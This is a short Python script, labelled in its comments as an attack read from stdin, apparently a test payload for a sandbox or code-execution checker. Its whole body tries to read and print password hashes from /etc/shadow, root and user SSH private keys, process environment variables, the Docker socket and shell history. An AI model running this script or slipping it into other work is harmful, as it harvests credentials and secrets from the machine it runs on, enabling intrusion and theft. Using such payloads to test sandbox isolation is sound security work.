# target: stdin
# attack: read sensitive files of the machine and print them
import glob
import os
for path in ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/1/cmdline",
             "/var/run/docker.sock", os.path.expanduser("~/.bash_history"), *glob.glob("/home/*/.ssh/*")]:
    try:
        with open(path, "rb") as handle:
            print(path, handle.read(200))
    except OSError as exc:
        print(path, exc)
